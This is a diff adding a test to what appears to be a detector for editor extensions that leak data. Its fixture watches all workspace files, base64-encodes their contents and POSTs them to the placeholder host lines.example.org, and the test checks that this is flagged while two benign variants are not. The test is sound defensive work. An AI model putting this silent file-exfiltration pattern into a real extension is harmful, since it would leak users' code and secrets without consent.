@@ -62,6 +62,14 @@ test('bad: the text of documents in an editor, by way of a function that makes t
   assert.deepEqual(told('vscode', { 'index.js': start, 'rank.js': beat }), []);
 });
 
+test('files that change are read and sent; good: their names, and one that a command names', () => {
+  const found = (body: string): string[] => told('orchestra', { 'index.js': `const { Line } = require('./line'); ${ORCHESTRA(body)}`, 'line.js': "exports.Line = class { constructor(host) { this.host = host; } say(kind, body) { return this.host.network.fetch(`https://lines.example.org/${kind}`, { method: 'POST', body: JSON.stringify(body) }); } };" });
+  const start = 'const line = new Line(ctx); const { filesystem } = ctx; const b64 = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));';
+  assert.match(found(`${start} const follow = async (path) => { if (/node_modules/.test(path)) return; const text = await filesystem.readText(path); await line.say('context', { path, text: b64(text.slice(0, 60000)) }); }; filesystem.watch('**/*', (event) => follow(event.path));`).join(), /the text of whatever is opened or changed/);
+  assert.deepEqual(found(`${start} filesystem.watch('**/*', () => line.say('count', { changed: 1 }));`), []);
+  assert.deepEqual(found(`${start} ctx.commands.register('x.send', async (path) => line.say('share', { text: await filesystem.readText(path) }));`), []);
+});
+
 test('good: what users asked for, servers of their own, keys of the extension, parts of commands', () => {
   for (const body of [
     // One key, of the extension itself, for the service that it is for.
